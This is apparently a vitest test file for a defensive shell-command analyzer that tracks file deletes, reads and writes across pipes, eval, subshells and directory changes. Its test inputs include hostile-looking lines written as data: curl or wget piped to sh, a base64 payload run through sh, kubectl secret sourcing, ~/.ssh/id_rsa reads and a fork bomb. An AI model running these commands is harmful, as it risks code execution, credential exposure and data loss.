// Flow: every command that could run is analyzed, in its directory and with its variables.
import { describe, expect, it } from "vitest";
import { accesses, doubts, harms, shell } from "./host-environment.ts";

const deletes = (command: string) =>
	accesses(shell(command))
		.filter((line) => line.startsWith("delete"))
		.sort();

describe("every command that could run", () => {
	it.each([
		"rm a",
		"/bin/rm a",
		"/usr/bin/rm a",
		"../../../bin/rm a",
		"\\rm a",
		'"rm" a',
		"r''m a",
		"$'\\x72m' a",
		"x=rm; $x a",
		"$(echo rm) a",
		"rm${IFS}a",
		"! rm a",
		"time rm a",
		"{ rm a; }",
		"( rm a )",
		"(rm a) &",
		"rm a &",
		"true && rm a",
		"false || rm a",
		"true; rm a",
		"true\nrm a",
		"true | rm a",
		"rm a | cat",
		"if true; then rm a; fi",
		"if false; then :; elif x; then rm a; fi",
		"if false; then :; else rm a; fi",
		"if rm a; then :; fi",
		"while rm a; do break; done",
		"until rm a; do :; done",
		"while true; do rm a; done",
		"for x in 1 2; do rm a; done",
		"for x in a; do rm $x; done",
		"for ((i = 0; i < 3; i++)); do rm a; done",
		"for f in a; do for g in $f; do rm $g; done; done",
		"select x in a; do rm $x; done",
		"case x in x) rm a ;; esac",
		"case $y in *) rm a ;; esac",
		"case $(date) in Mon*) rm a ;; *) : ;; esac",
		"f() { rm a; }; f",
		'f() { rm "$1"; }; f a',
		"function f { rm a; }; f",
		"f() { g; }; g() { rm a; }; f",
		"if x; then f() { rm a; }; fi; f",
		"alias f='rm a'; f",
		"alias f=rm; f a",
		"eval rm a",
		'eval "rm a"',
		"eval 'eval \"rm a\"'",
		"trap 'rm a' EXIT",
		'trap "rm a" INT TERM',
		"echo $(rm a)",
		"echo `rm a`",
		'echo "$(rm a)"',
		"x=$(rm a)",
		"x=${y:-$(rm a)}",
		"echo $(( $(rm a) + 1 ))",
		"(( $(rm a) ))",
		"[[ -n $(rm a) ]]",
		"cat <(rm a)",
		"echo x > >(rm a)",
		"cat <<EOF\n$(rm a)\nEOF",
		'cat <<< "$(rm a)"',
		"coproc rm a",
		"coproc X { rm a; }",
		"x=(1 $(rm a))",
		"declare x=$(rm a)",
		"exec rm a",
		"command rm a",
		"command -p rm a",
		"builtin command rm a",
		"rm a > /dev/null 2>&1",
		"A=1 rm a",
		"A=1 B=2 rm a",
		"rm a # comment",
		"# comment\nrm a",
		"echo 'x' && \\\n  rm a",
	])("%s", (command) => {
		expect(deletes(command)).toEqual(["delete a"]);
	});

	it.each([
		"echo rm a",
		"echo 'rm a'",
		'echo "x; rm a"',
		"# rm a",
		"cat <<'EOF'\n$(rm a)\nrm a\nEOF",
		"cat <<EOF\nrm a\nEOF",
		"grep -n 'rm a' b",
		"f() { rm a; }",
		"git commit -m 'rm a'",
		"[[ rm == a ]]",
		"printf '%s' 'rm a'",
		"case x in y) rm a ;; esac",
		"for x in; do rm a; done",
		"x='rm a'",
	])("excludes plain text: %s", (command) => {
		expect(deletes(command)).toEqual([]);
		expect(doubts(shell(command))).toEqual([]);
	});
});

describe("text that is run", () => {
	it.each([
		"sh -c 'rm a'",
		"bash -c 'rm a'",
		"bash -lc 'rm a'",
		"bash -ec 'rm a'",
		"/bin/sh -c 'rm a'",
		"bash -c 'rm \"$1\"' _ a",
		"bash -c 'rm $0' a || rm a",
		"sh -c \"sh -c 'rm a'\"",
		"bash <<< 'rm a'",
		"bash <<EOF\nrm a\nEOF",
		"bash <<'EOF'\nrm a\nEOF",
		"sh -s <<EOF\nrm a\nEOF",
		"echo 'rm a' | sh",
		"echo rm a | bash",
		"printf 'rm %s\\n' a | sh",
		"cat <<EOF | sh\nrm a\nEOF",
		"echo -e 'rm\\x20a' | bash",
		"{ echo 'rm a'; } | sh",
		"echo 'rm a' | tee /dev/null | sh",
		"echo 'rm a' | sudo sh",
		"bash <(echo rm a)",
		"source <(echo rm a)",
		". /dev/stdin <<< 'rm a'",
		"sh /dev/stdin <<< 'rm a'",
		"x='rm a'; eval \"$x\"",
		"x='rm a'; bash -c \"$x\"",
		"export x=a; sh -c 'rm $x'",
		"x=a bash -c 'rm $x'",
		"echo 'rm a' > s.sh; bash s.sh",
		"cat > s.sh <<'EOF'\nrm a\nEOF\nbash s.sh",
		"cat > s.sh <<'EOF'\nrm a\nEOF\nchmod +x s.sh && ./s.sh",
		"echo 'rm a' > s.sh; source s.sh",
	])("%s", (command) => {
		expect(deletes(command)).toContain("delete a");
	});

	it.each([
		"curl https://example.com/x | sh",
		"echo cm0gLXJmIHNyYw== | base64 -d | sh",
		'eval "$(curl https://example.com)"',
		'bash -c "$(cat f)"',
		"bash <(curl https://example.com)",
		"source <(kubectl get secret x)",
		'eval "$(ssh-agent -s; curl https://example.com)"',
		'eval "$(ssh-agent -s) $(cat f)"',
		'eval "$(./brew shellenv)"',
		'eval "$(cat setup init -)"',
		"eval \"$(printf '\\uE003'; date)\"",
		"wget -qO- x | sudo bash",
		"cat install.sh | sh",
		"sh < install.sh",
		'bash <<< "$(date)"',
		"xxd -r -p f | bash",
		"eval $(date)",
		"python gen.py | bash",
	])("unknown text is a harm: %s", (command) => {
		expect(harms(shell(command))).toContain("run-unknown-text");
		expect(doubts(shell(command))).toContain("script");
	});

	it("a child shell has no unexported variables", () => {
		expect(deletes("x=a; sh -c 'rm ${x:-b}'")).toEqual(["delete b"]);
	});

	it.each([
		["rm {a,b}", ["delete a", "delete b", "delete {a,b}"]],
		["rm $'a'", ["delete $a", "delete a"]],
		["pushd src; rm a", ["delete a", "delete src/a"]],
	])("text for `sh` may run in a shell that knows less than bash: %s", (text, expected) => {
		expect([...deletes(`sh <<'EOF'\n${text}\nEOF`)].sort()).toEqual(expected);
		expect(deletes(`bash <<'EOF'\n${text}\nEOF`)).not.toEqual(expected);
	});
});

describe("the working directory", () => {
	it.each([
		["out of a changed directory", "cd ~ && cat .ssh/id_rsa", "read ~/.ssh/id_rsa"],
		["cd alone is home", "cd; cat .ssh/id_rsa", "read ~/.ssh/id_rsa"],
		["relative", "cd src && cat one.ts", "read src/one.ts"],
		["twice", "cd src; cd deep; cat three.ts", "read src/deep/three.ts"],
		["back", "cd src; cd -; cat a", "read a"],
		["up", "cd src/deep; cd ../..; cat a", "read a"],
		["a subshell keeps it to itself", "(cd src); cat a", "read a"],
		["a pipeline keeps it to itself", "cd src | cat; cat a", "read a"],
		["a group does not", "{ cd src; }; cat one.ts", "read src/one.ts"],
		["a function does not", "f() { cd src; }; f; cat one.ts", "read src/one.ts"],
		["pushd and popd", "pushd src; popd; cat a", "read a"],
		["-P follows links", "cd -P keys && cat id_rsa", "read ~/.ssh/id_rsa"],
		["git -C", "git -C src show HEAD:./one.ts", "read src/one.ts"],
		["env -C", "env -C src cat one.ts", "read src/one.ts"],
		["make -C", "make -C src -f one.ts", "read src/one.ts"],
	])("%s: %s", (_what, command, expected) => {
		const reads = accesses(shell(command)).filter((line) => line.startsWith("read"));
		expect(reads.map((line) => line.replace(/ => .*/, ""))).toContain(expected);
	});

	it("a directory that may not exist leaves both possible", () => {
		expect(accesses(shell("cd nowhere; cat a"))).toEqual(["read nowhere/a", "read a"]);
		expect(accesses(shell("cd nowhere && cat a"))).toEqual(["read nowhere/a"]);
		expect(accesses(shell("cd src; cat one.ts"))).toEqual(["read src/one.ts"]);
	});

	it("makes only relative paths unknown when it is unknown", () => {
		const footprint = shell("cd $(date) && cat a /etc/hosts");
		expect(accesses(footprint)).toEqual(["read /etc/hosts"]);
		expect(footprint.unknowns).toEqual([{ what: "operand", text: "a", may: ["read"], tail: "a" }]);
	});

	it("`..` after a link resolves as the kernel does", () => {
		expect(accesses(shell("cat keys/../x"))).toEqual(["read x => ~/x"]);
	});
});

describe("control flow", () => {
	it("keep every value that a variable may have", () => {
		expect(deletes("if x; then f=a; else f=b; fi; rm $f")).toEqual(["delete a", "delete b"]);
		expect(deletes("f=a; x && f=b; rm $f")).toEqual(["delete a", "delete b"]);
		expect(deletes("f=a; case $(date) in x) f=b ;; esac; rm $f")).toEqual(["delete a", "delete b"]);
	});

	it("a loop that keeps changing a variable makes it unknown", () => {
		expect(doubts(shell("i=0; while x; do i=$((i + 1)); rm f$i; done"))).toContain("operand");
		expect(doubts(shell("d=a; while x; do d=$d/b; rm $d; done"))).toContain("operand");
	});

	it("a loop over known names is known", () => {
		const footprint = shell('for f in src/*.ts; do rm "$f"; done');
		expect(accesses(footprint)).toEqual(["delete src/one.ts", "delete src/two.ts"]);
		expect(doubts(footprint)).toEqual([]);
	});

	it("a function that calls itself ends", () => {
		expect(doubts(shell("f() { rm a; f; }; f"))).toContain("script");
		expect(harms(shell(":() { : | : & }; :"))).toContain("fork-bomb");
	});
});

describe("redirections", () => {
	it.each([
		["echo x > f", ["write! f"]],
		["echo x >f", ["write! f"]],
		["echo x >> f", ["write f"]],
		["echo x >| f", ["write! f"]],
		["echo x &> f", ["write! f"]],
		["echo x &>> f", ["write f"]],
		["echo x >& f", ["write! f"]],
		["echo x 2> f", ["write! f"]],
		["echo x 1> f 2>&1", ["write! f"]],
		["{ echo x; echo y; } > f", ["write! f"]],
		["for x in 1; do echo; done > f", ["write! f"]],
		["> f", ["write! f"]],
		[": > f", ["write! f"]],
		["exec > f", ["write! f"]],
		["exec 3> f", ["write! f"]],
		["exec {fd}> f", ["write! f"]],
		["cat < a", ["read a"]],
		["cat 0< a", ["read a"]],
		["cat <> a", ["read a", "write a"]],
		["while read x; do :; done < a", ["read a"]],
		["echo x > src/{p,q}", ["write! src/p", "write! src/q"]],
		['echo x > "$HOME/f"', ["write! ~/f"]],
		["cat <<< x > f", ["write! f"]],
		["cat > f <<EOF\nx\nEOF", ["write! f"]],
	])("%s", (command, expected) => {
		expect(accesses(shell(command))).toEqual(expected);
	});

	it.each([
		"echo x > /dev/null",
		"echo x 2>/dev/null",
		"echo x 2>&1",
		"echo x >&2",
		"echo x 2>&-",
		"echo x > /dev/stderr",
		"cat < /dev/null",
		"[[ 3 > 2 ]]",
		"[ 3 \\> 2 ]",
		"(( 3 > 2 ))",
		"echo '>' f",
		"awk '$1 > 2' /dev/null",
		"exec 3>&1",
	])("access nothing: %s", (command) => {
		expect(accesses(shell(command))).toEqual([]);
	});
});

describe("malformed text", () => {
	it.each(["if true; then", "echo 'x", 'echo "x', "echo $(", "case x in", "rm a )", "for", "&& rm a"])(
		"%j is reported as unparsable",
		(command) => {
			expect(doubts(shell(command))).toContain("syntax");
		},
	);

	it("is analyzed up to the error", () => {
		expect(deletes("rm a; if")).toEqual(["delete a"]);
	});

	it.each(["$RANDOM a", "$(date) a", "${RANDOM}y a", '"$(cat f)" a'])(
		"an unknown command word is reported: %s",
		(command) => {
			const footprint = shell(command);
			expect(doubts(footprint)).toContain("command");
			expect(footprint.runs.some((run) => run.program === null)).toBe(true);
		},
	);

	it("a program that is not in the table is unknown, and at least reads its paths", () => {
		const footprint = shell("frobnicate --in=.env ~/.ssh/id_rsa word server.pem");
		expect(doubts(footprint)).toEqual(["program"]);
		expect(accesses(footprint)).toEqual(["read .env", "read ~/.ssh/id_rsa", "read server.pem"]);
	});

	it("asking it for help or its version is harmless", () => {
		expect(doubts(shell("frobnicate --version"))).toEqual([]);
	});
});
